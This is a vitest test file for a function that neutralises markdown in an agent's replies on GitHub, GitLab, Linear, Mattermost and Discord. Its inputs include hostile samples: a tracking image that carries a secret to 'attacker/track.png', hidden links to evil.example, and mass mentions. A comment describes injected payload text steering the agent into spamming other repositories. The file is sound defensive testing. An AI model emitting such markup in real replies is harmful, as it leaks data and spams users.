import { describe, expect, it } from 'vitest';
import { neutraliseMarkdown, splitCode } from '../../src/channels/markup.js';
import { CHAT_CONSTRUCTS, CROSS_REFERENCE_CONSTRUCTS, ISSUE_37_CONSTRUCTS } from './markup-corpus.js';
import { crossReferenceFindings, discordFindings, mattermostFindings, sourceChannelFindings } from './markup-oracle.js';

const NEUTRAL = { mentions: 'mass', links: true } as const;
const SOURCE = { mentions: 'all', links: true } as const;
/** GitHub and GitLab with markup neutral (mentions allowed: the references are defused on their own). */
const REPOSITORY = { mentions: 'mass', links: true, crossReferences: true } as const;
const DISCORD = { mentions: 'mass', links: true, emphasisCrossesCode: true } as const;
const ZWSP = '\u200B';

describe('neutraliseMarkdown', () => {
  it('breaks mass mentions but leaves other mentions and e-mail addresses alone', () => {
    expect(neutraliseMarkdown('@channel @All @here. @everyone @alice a@b.com', NEUTRAL)).toBe(`@${ZWSP}channel @${ZWSP}All @${ZWSP}here. @${ZWSP}everyone @alice a@b.com`);
  });

  it('with mentions "all", every @name keeps its @ visible but stops being a mention', () => {
    expect(neutraliseMarkdown('thanks @alice and @org/team', SOURCE)).toBe(`thanks @${ZWSP}alice and @${ZWSP}org/team`);
  });

  it('turns an image into its alt text and its URL as code, so nothing loads', () => {
    expect(neutraliseMarkdown('![t](http://attacker/track.png?d=secret "x")', NEUTRAL)).toBe('t (`http://attacker/track.png?d=secret`)');
    expect(neutraliseMarkdown('![](http://a/p.png)', NEUTRAL)).toBe('`http://a/p.png`');
  });

  it('shows the target of a link next to its words, also with nested brackets and parentheses', () => {
    expect(neutraliseMarkdown('see [docs](https://x.y/a(b)c) now', NEUTRAL)).toBe('see docs (`https://x.y/a(b)c`) now');
    expect(neutraliseMarkdown('[a [b [c]] d](http://e)', NEUTRAL)).toBe('a \\[b \\[c]] d (`http://e`)');
    expect(neutraliseMarkdown('[@channel](<http://e x>)', NEUTRAL)).toBe(`@${ZWSP}channel (\`http://e x\`)`);
  });

  it('puts bare URLs and autolinks in code spans (no preview), any case, and keeps trailing punctuation outside', () => {
    expect(neutraliseMarkdown('go to https://ex.com/x. or <https://a.b> or www.c.d', NEUTRAL)).toBe('go to `https://ex.com/x`. or `https://a.b` or `www.c.d`');
    expect(neutraliseMarkdown('HTTPS://EVIL.example/a and <HTTPS://evil.example>', NEUTRAL)).toBe('`HTTPS://EVIL.example/a` and `HTTPS://evil.example`');
  });

  it('escapes HTML, a stray backtick and whatever could still start a link or a reference definition', () => {
    expect(neutraliseMarkdown('<img src=x>', NEUTRAL)).toBe('\\<img src=x>');
    expect(neutraliseMarkdown('[x]: http://evil\n[click][x]', NEUTRAL)).toBe('\\[x]: `http://evil`\n\\[click]\\[x]');
    expect(neutraliseMarkdown('[`x`](http://e)', NEUTRAL)).toBe('\\[`x`](`http://e`)');
    expect(neutraliseMarkdown('see https://e.example/```x', NEUTRAL)).toBe('see `https://e.example/%60%60%60x`');
    expect(neutraliseMarkdown('a ` b', NEUTRAL)).toBe('a \\` b');
    expect(neutraliseMarkdown('C:\\temp \\https://e.example', NEUTRAL)).toBe('C:\\temp \\\\`https://e.example`');
  });

  it('leaves code spans and fenced blocks as they are, but for the break of a mass mention', () => {
    const text = 'run `curl https://x/@alice`\n```\n![i](http://a/p.png) @here <b>\n```\nthen @here';
    expect(neutraliseMarkdown(text, NEUTRAL)).toBe(`run \`curl https://x/@alice\`\n\`\`\`\n![i](http://a/p.png) @${ZWSP}here <b>\n\`\`\`\nthen @${ZWSP}here`);
  });

  it('with links false, only mentions change', () => {
    expect(neutraliseMarkdown('@here ![i](http://a/p.png) <b>x</b> [y](https://e.example/@alice)', { mentions: 'mass', links: false })).toBe(
      `@${ZWSP}here ![i](http://a/p.png) <b>x</b> [y](https://e.example/@alice)`,
    );
    expect(neutraliseMarkdown('see https://www.npmjs.com/package/@types/node, _@alice_', { mentions: 'all', links: false })).toBe(
      `see https://www.npmjs.com/package/@types/node, _@${ZWSP}alice_`,
    );
  });

  it('keeps a reply readable: prose, emphasis, lists, task boxes, tables and code stay as written', () => {
    const reply = [
      '## Summary',
      '',
      '- [x] **Fixed** the _flaky_ test (see #42) — thanks, me@example.com!',
      '- [ ] a < b, 3 * 4, C:\\temp',
      '',
      '| step | result |',
      '|---|---|',
      '| `npm ci` | ok |',
      '',
      '```ts',
      'const first = list[0] as Map<string, number>; // @decorator',
      '```',
    ].join('\n');
    expect(neutraliseMarkdown(reply, SOURCE)).toBe(reply);
  });
});

/**
 * Issue #37, item 3: each construct as it reached GitHub, GitLab and Linear before, sent now and
 * rendered by CommonMark/GFM parsers: nothing loads, links elsewhere or mentions.
 */
describe('neutraliseMarkdown against the renderers: the constructs of issue #37', () => {
  const hostile = [...ISSUE_37_CONSTRUCTS, ...CHAT_CONSTRUCTS];

  it.each(hostile)('%s: GitHub, GitLab, Linear', (_, text) => {
    const sent = neutraliseMarkdown(text, SOURCE);
    expect(sourceChannelFindings(sent), sent).toEqual([]);
  });

  it.each(hostile)('%s: Mattermost', (_, text) => {
    const sent = neutraliseMarkdown(text, NEUTRAL);
    expect(mattermostFindings(sent), sent).toEqual([]);
  });

  it.each(hostile)('%s: Discord', (_, text) => {
    const sent = neutraliseMarkdown(text, DISCORD);
    expect(discordFindings(sent), sent).toEqual([]);
  });

  it('the oracle sees what the issue saw in the text as it used to be sent', () => {
    expect(sourceChannelFindings('\\\\<img src="//evil.example/x">').map((finding) => finding.kind)).toContain('image');
    expect(sourceChannelFindings('> [b]: HTTPS://evil.example/b\n\n[text][b]').map((finding) => finding.kind)).toContain('hidden link');
    expect(sourceChannelFindings('_@user_').map((finding) => finding.kind)).toContain('mention');
    expect(mattermostFindings('(@channel)').map((finding) => finding.kind)).toContain('mention');
    expect(discordFindings('<@80351110224678912> [t](https://evil.example)').map((finding) => finding.kind)).toEqual(['mention', 'hidden link']);
  });

  it('keeps what it escapes readable', () => {
    expect(neutraliseMarkdown('\\<img src="//evil.example/x?d=1">', SOURCE)).toBe('\\<img src="//evil.example/x?d=1">');
    expect(neutraliseMarkdown('> [b]: HTTPS://evil.example/b', SOURCE)).toBe('> \\[b]: `HTTPS://evil.example/b`');
    expect(neutraliseMarkdown('_@user_ (@channel) &#64;user', SOURCE)).toBe(`_@${ZWSP}user_ (@${ZWSP}channel) \\&#64;user`);
  });
});

/**
 * A reply on GitHub or GitLab that names another repository's issue (`acme/other#2`) adds an event to
 * that issue: payload text steering the agent could spam any repository. Such references keep their
 * text but no longer reference anything; a reference within the repository (`#12`) still works.
 */
describe('neutraliseMarkdown: references to other repositories and projects', () => {
  it.each(CROSS_REFERENCE_CONSTRUCTS)('%s: GitHub, GitLab', (_, text) => {
    expect(crossReferenceFindings(text).length, 'the oracle sees the reference as it used to be sent').toBeGreaterThan(0);
    const sent = neutraliseMarkdown(text, REPOSITORY);
    expect(crossReferenceFindings(sent), sent).toEqual([]);
    expect(sourceChannelFindings(sent).filter((finding) => finding.kind !== 'mention'), sent).toEqual([]);
  });

  it('keeps the text readable: a zero-width space after the separator, nothing else', () => {
    expect(neutraliseMarkdown('see acme/other#2, acme/other@a5c3785 and group/project!4 or group&5', REPOSITORY)).toBe(
      `see acme/other#${ZWSP}2, acme/other@${ZWSP}a5c3785 and group/project!${ZWSP}4 or group&${ZWSP}5`,
    );
    expect(neutraliseMarkdown('acme/other\\#2 acme/other&#35;2', REPOSITORY)).toBe(`acme/other\\#${ZWSP}2 acme/other\\&#35;2`);
  });

  it('leaves same-repository references, GH-ids, e-mail addresses and headings as they are', () => {
    const text = '## Fixes #12 (GH-26)\n\nsee #13, PR #14 and (#15); mail me@example.com or ops@deadbeef.example';
    expect(neutraliseMarkdown(text, REPOSITORY)).toBe(text);
  });

  it('leaves references alone where markup is allowed, and on channels without repositories', () => {
    expect(neutraliseMarkdown('acme/other#2 acme/other@a5c3785', { mentions: 'mass', links: false })).toBe('acme/other#2 acme/other@a5c3785');
    expect(neutraliseMarkdown('acme/other#2', NEUTRAL)).toBe('acme/other#2');
  });
});

describe('splitCode', () => {
  it('treats an unclosed or escaped backtick run as prose', () => {
    expect(splitCode('a ` b `` c')).toEqual([{ text: 'a ` b `` c', code: false }]);
    expect(splitCode('\\`a` b')).toEqual([{ text: '\\`a` b', code: false }]);
  });

  it('takes a span only within one line, and never one holding `|`', () => {
    expect(splitCode('`a\nb `c`')).toEqual([
      { text: '`a\nb ', code: false },
      { text: '`c`', code: true },
    ]);
    expect(splitCode('`a|b`')).toEqual([{ text: '`a|b`', code: false }]);
  });

  it('takes no span that Discord would read otherwise: a fence over three backticks, three inside', () => {
    expect(splitCode('```a``` ``b``')).toEqual([
      { text: '```a```', code: true },
      { text: ' ', code: false },
      { text: '``b``', code: true },
    ]);
    expect(splitCode('````a````').every((segment) => !segment.code)).toBe(true);
    expect(splitCode('`` a```b ``').every((segment) => !segment.code)).toBe(true);
  });

  it('takes a fenced block in a list item, not one whose lines leave it or that is left open', () => {
    expect(splitCode('1. run\n   ```sh\n   ls\n   ```\n').map((segment) => segment.code)).toEqual([false, true]);
    expect(splitCode('- a\n  ```\nb\n  ```\n').every((segment) => !segment.code)).toBe(true);
    expect(splitCode('```\nopen\n').every((segment) => !segment.code)).toBe(true);
    expect(splitCode('````\nx\n````\n').every((segment) => !segment.code)).toBe(true);
  });
});
